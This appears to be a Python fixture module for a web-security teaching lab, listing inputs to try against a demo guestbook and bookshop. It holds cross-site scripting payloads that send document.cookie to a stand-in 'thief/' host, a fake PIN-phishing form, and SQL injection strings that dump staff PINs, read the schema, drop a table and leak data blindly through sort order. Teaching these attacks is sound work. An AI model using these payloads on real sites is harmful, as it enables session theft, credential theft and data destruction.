"""Things to try. They are ordinary input; everything about them that is special happens later."""

from dataclasses import dataclass

SEND = "new Image().src='thief/?'+document.cookie"


@dataclass(frozen=True)
class Entry:
    title: str
    what: str
    text: str
    name: str = "Guest"
    homepage: str = ""


@dataclass(frozen=True)
class Question:
    title: str
    what: str
    q: str = ""
    sort: str = "title"


ENTRIES = [
    Entry(
        "Some markup",
        "Harmless, and wanted or not: is it text, or is it the page’s?",
        "<b>Lovely</b> shop, Tom & Ada's favourite. 1 < 2!",
    ),
    Entry(
        "A script",
        "The classic proof. Any page on which a stranger’s alert() appears is the stranger’s.",
        "<script>alert('I am part of your page')</script>",
    ),
    Entry(
        "An image that fails",
        "No script element at all: an event handler sends the pass to the thief.",
        f'<img src=x alt="" onerror="{SEND}">',
    ),
    Entry(
        "A homepage",
        "No markup at all. Post it, then click the guest’s name.",
        "Visit my homepage!",
        name="Click me",
        homepage=f"javascript:void({SEND})",
    ),
    Entry(
        "A name",
        "It stands in a script of the shop’s own. Newest entry wins.",
        "Who am I?",
        name=f'"+({SEND})+"',
    ),
    Entry(
        "A form",
        "No script anywhere. Fill it in and send it.",
        '<form action="thief/"><p>Your session is over.</p><p><label>PIN <input name="pin" size="6">'
        "</label> <button>Go on</button></p></form>",
    ),
]

STAFF_TABLE = "xss_sql_injection_staff"

QUESTIONS = [
    Question("A name", "Maeve’s own book. A customer asks for it once a week.", "O'Brien"),
    Question("A percent sign", "In LIKE it means anything. A reader means a percent sign.", "%"),
    Question("Always true", "The rest of the condition becomes a comment.", "' OR 1=1 --"),
    Question(
        "Another table",
        "UNION puts rows of any table below those of the books.",
        f"zzz' UNION SELECT id, name, pin, 0 FROM {STAFF_TABLE} --",
    ),
    Question(
        "The plan of the house",
        "Which tables are there? The database knows.",
        "zzz' UNION SELECT 0, name, substr(sql, 1, 60), 0 FROM sqlite_master"
        " WHERE name LIKE 'xss_sql_injection%' AND type = 'table' --",
    ),
    Question(
        "A second statement",
        "The one that everybody knows. Does it work here?",
        "'; DROP TABLE xss_sql_injection_book; --",
    ),
    Question(
        "The order tells",
        "Nothing is shown. Is Oskar’s PIN’s first digit a 4? Then the dear books come first.",
        "",
        f"CASE WHEN (SELECT pin FROM {STAFF_TABLE} WHERE name = 'Oskar') LIKE '4%'"
        " THEN -price ELSE price END",
    ),
]
